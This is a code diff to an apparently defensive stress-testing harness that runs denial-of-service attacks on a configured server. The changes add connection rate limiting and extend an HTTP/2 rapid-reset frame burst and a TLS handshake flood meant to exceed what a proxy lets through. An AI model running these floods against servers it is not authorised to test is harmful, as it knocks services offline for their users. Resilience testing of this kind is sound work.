@@ -33,7 +33,9 @@ CHUNK = 16_384
 MiB = 1024 * 1024
 BURST = 200
 """Frames sent in one write."""
-RECONNECT_SECONDS = 0.02
+CONNECTIONS_A_SECOND = 10.0
+"""New connections, beyond those that an attack begins with: what the proxy in front lets through from one address. What floods of
+handshakes do without a proxy, `handshakes` shows."""
 
 
 @dataclass(slots=True)
@@ -45,12 +47,13 @@ class Attack:
     """By time.monotonic()."""
     counts: Counter[str] = field(default_factory=Counter)
     context: ssl.SSLContext = field(init=False)
+    _next_connection: float = 0.0
 
     def __post_init__(self) -> None:
         self.context = self.target.context()
 
     async def prove(self) -> None:
-        """Makes one right call by the same means. Raises RuntimeError when it is not answered: such an attack would prove nothing."""
+        """Makes one right call by the same means. Raises RuntimeError when it is not answered: then it proves nothing."""
         counts: Counter[str] = Counter()
         connection = await Connection.start(self.target, self.context, counts)
         number = connection.stream()
@@ -76,6 +79,12 @@ class Attack:
             async with asyncio.timeout(max(self.until - time.monotonic(), 0)):
                 await end
 
+    async def wait_to_connect(self) -> None:
+        """Waits until a further connection would be let through."""
+        now = time.monotonic()
+        self._next_connection = max(self._next_connection, now) + 1 / CONNECTIONS_A_SECOND
+        await asyncio.sleep(self._next_connection - now)
+
     async def on(self, connections: int, what: Callable[[Connection], Awaitable[None]], *, reads: bool = True) -> None:
         """Does something on so many connections at once, and again when the server ends one."""
 
@@ -85,7 +94,7 @@ class Attack:
                     connection = await Connection.start(self.target, self.context, self.counts, reads=reads)
                 except (OSError, ssl.SSLError):
                     self.counts["connections refused"] += 1
-                    await asyncio.sleep(RECONNECT_SECONDS)
+                    await self.wait_to_connect()
                     continue
                 try:
                     with suppress(OSError, ssl.SSLError):
@@ -93,7 +102,7 @@ class Attack:
                             await what(connection)
                 finally:
                     connection.close()
-                await asyncio.sleep(RECONNECT_SECONDS)
+                await self.wait_to_connect()
 
         async with asyncio.TaskGroup() as tasks:
             for _ in range(connections):
@@ -182,6 +191,7 @@ async def rapid_reset(attack: Attack) -> None:
             frames: list[bytes] = []
             for _ in range(BURST):
                 number = connection.stream()
+                connection.forget(number)
                 frames += [headers_frame(number, block), RstStreamFrame(number, error_code=CANCEL).serialize()]
             await connection.send(b"".join(frames))
 
@@ -231,12 +241,16 @@ async def _each(count: int, one: Callable[[], Coroutine[Any, Any, None]]) -> Non
 
 
 async def handshakes(attack: Attack) -> None:
-    """TLS handshakes, one after the other on 16 lanes."""
+    """TLS handshakes, one after the other on 16 lanes, past what a proxy would let through."""
 
-    async def leave(_: Connection) -> None:
-        return
+    async def lane() -> None:
+        while attack.going:
+            with suppress(OSError, ssl.SSLError):
+                (await Connection.start(attack.target, attack.context, attack.counts)).close()
 
-    await attack.on(16, leave)
+    async with asyncio.TaskGroup() as tasks:
+        for _ in range(16):
+            tasks.create_task(lane())
 
 
 async def wrong_signatures(attack: Attack) -> None:
